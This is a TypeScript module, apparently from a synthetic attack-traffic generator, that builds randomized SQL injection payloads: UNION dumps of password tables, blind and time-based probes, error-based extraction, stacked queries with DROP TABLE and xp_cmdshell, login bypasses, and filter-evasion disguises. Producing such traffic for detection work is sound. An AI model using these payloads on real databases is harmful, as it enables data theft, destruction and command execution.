// generate: text that is to become part of a database query: in band, by union, blind by truth or time, by error, stacked.
import type { WebAnswer } from '../app/http-habits.ts';
import { encodeText, encodings } from '../app/web-pages.ts';
import type { Random } from '../random.ts';
import { attackOn, type PlanBehaviour } from './behaviour.ts';
import { type Place, pickVerdict, placeText, webAttackSeries } from './web-attack.ts';

const manners = ['tautology', 'union', 'boolean', 'time', 'error', 'stacked', 'order', 'login'] as const;
const places = ['query', 'query', 'query', 'body', 'body', 'path', 'cookie', 'json', 'referer', 'agent'] as const;
const disguises = ['none', 'none', 'none', 'case', 'comments', 'tabs'] as const;

export const planSqlInjection: PlanBehaviour = (context) => {
  const { random } = context;
  // A tool works through several manners, a person knows one.
  const own = random.pick(manners);
  const mixed = random.chance(0.5);
  const place: Place = random.pick(places);
  const disguise = random.pick(disguises);
  const encoding = random.pick(encodings);
  const verdict = pickVerdict(random);
  const quote = random.pick(["'", "'", '"', '', "')"]);
  const delaySeconds = random.pick([1, 2, 5]);
  return attackOn(
    'Web Attack - SQL Injection',
    context,
    webAttackSeries(context, {
      ...{ median: 120, largest: 600 },
      make: (number, chance) => {
        const manner = mixed ? chance.pick(manners) : own;
        const text = disguised(injection(manner, number, quote, delaySeconds, chance), disguise, chance);
        const plain = place === 'json' || place === 'agent' || place === 'referer';
        const encoded = plain ? text : encodeText(text, encoding, chance);
        return { ...placeText(encoded, place, chance), answer: answerTo(manner, verdict, delaySeconds, chance) };
      },
    }),
  );
};

/** Truth shows in the length of the page, waiting in the time, dumped tables in a longer page. */
function answerTo(
  manner: (typeof manners)[number],
  verdict: (chance: Random) => WebAnswer,
  delaySeconds: number,
  random: Random,
): WebAnswer & { readonly delayMs?: number } {
  const answer = verdict(random);
  if (manner === 'time' && random.chance(0.5)) return { ...answer, delayMs: delaySeconds * 1000 };
  if (answer.status === 200 && manner === 'union') return { ...answer, bodyBytes: random.integer(1500, 9000) };
  if (answer.status === 200 && manner === 'boolean') return { ...answer, bodyBytes: random.pick([1200, 4200]) };
  return answer;
}

function injection(
  manner: (typeof manners)[number],
  number: number,
  quote: string,
  delay: number,
  random: Random,
): string {
  const end = random.pick(['-- ', '-- -', '#', '--+', '/*', '']);
  const table = random.pick(['users', 'information_schema.tables', 'accounts', 'mysql.user', 'admin', 'members']);
  const column = random.pick(['password', 'user', 'table_name', 'email', 'version()', 'database()', '@@version']);
  const n = random.integer(1, 9999);
  const id = random.integer(-9999, 999);
  switch (manner) {
    case 'tautology':
      return `${id}${quote} OR ${random.pick([`${n}=${n}`, "'1'='1", "'a'='a", '1=1', `'x' LIKE 'x`])} ${end}`;
    case 'union': {
      const count = 1 + (number % random.integer(2, 12));
      const columns = Array.from({ length: count }, (_, at) =>
        random.pick(['NULL', String(at + 1), column, `CONCAT(0x7e,${column},0x7e)`]),
      );
      return `${id}${quote} UNION ${random.chance(0.5) ? 'ALL ' : ''}SELECT ${columns.join(',')} ${random.chance(0.6) ? `FROM ${table} ` : ''}${end}`;
    }
    case 'boolean':
      return random.pick([
        `${id}${quote} AND ${n}=${random.chance(0.5) ? n : n + 1} ${end}`,
        `${id}${quote} AND ORD(MID((SELECT IFNULL(CAST(${column} AS CHAR),0x20) FROM ${table} LIMIT ${number % 9},1),${1 + (number % 30)},1))>${random.integer(32, 126)} ${end}`,
        `${id}${quote} AND ASCII(SUBSTRING((SELECT ${column} FROM ${table} LIMIT 1),${1 + (number % 30)},1))=${random.integer(48, 122)} ${end}`,
      ]);
    case 'time':
      return random.pick([
        `${id}${quote} AND SLEEP(${delay}) ${end}`,
        `${id}${quote} AND (SELECT ${n} FROM (SELECT(SLEEP(${delay})))${random.text(4)}) ${end}`,
        `${id}${quote};WAITFOR DELAY '0:0:${delay}' ${end}`,
        `${id}${quote} OR pg_sleep(${delay}) ${end}`,
        `${id}${quote} AND BENCHMARK(5000000,MD5(0x${random.text(6, '0123456789abcdef')})) ${end}`,
      ]);
    case 'error':
      return random.pick([
        `${id}${quote} AND EXTRACTVALUE(${n},CONCAT(0x5c,0x71,(SELECT ${column}),0x71)) ${end}`,
        `${id}${quote} AND UPDATEXML(1,CONCAT(0x7e,(SELECT ${column} FROM ${table} LIMIT 1)),1) ${end}`,
        `${id}${quote} AND ${n}=CONVERT(INT,(SELECT ${column})) ${end}`,
        `${id}${quote}`,
        `${id}${quote}${quote}(,."${random.text(3)}`,
      ]);
    case 'stacked':
      return random.pick([
        `${id}${quote}; DROP TABLE ${table} ${end}`,
        `${id}${quote}; INSERT INTO ${table} VALUES(${n},'${random.text(6)}') ${end}`,
        `${id}${quote}; UPDATE ${table} SET ${random.pick(['password', 'role'])}='${random.text(8)}' WHERE id=1 ${end}`,
        `${id}${quote}; EXEC xp_cmdshell('${random.pick(['whoami', 'dir', 'ping localhost'])}') ${end}`,
      ]);
    case 'order':
      return `${id}${quote} ORDER BY ${1 + (number % 20)} ${end}`;
    case 'login':
      return `${random.pick(['admin', 'root', random.text(5)])}${quote} ${random.pick(['--', '#', "OR '1'='1' --", 'OR 1=1 LIMIT 1 #'])}`;
  }
}

function disguised(text: string, disguise: (typeof disguises)[number], random: Random): string {
  switch (disguise) {
    case 'none':
      return text;
    case 'case':
      return [...text].map((letter) => (random.chance(0.5) ? letter.toLowerCase() : letter.toUpperCase())).join('');
    case 'comments':
      return text.replaceAll(' ', () => random.pick(['/**/', '/**/', `/*${random.text(4)}*/`]));
    case 'tabs':
      return text.replaceAll(' ', () => random.pick(['\t', '\n', '\u000b', '  ']));
  }
}
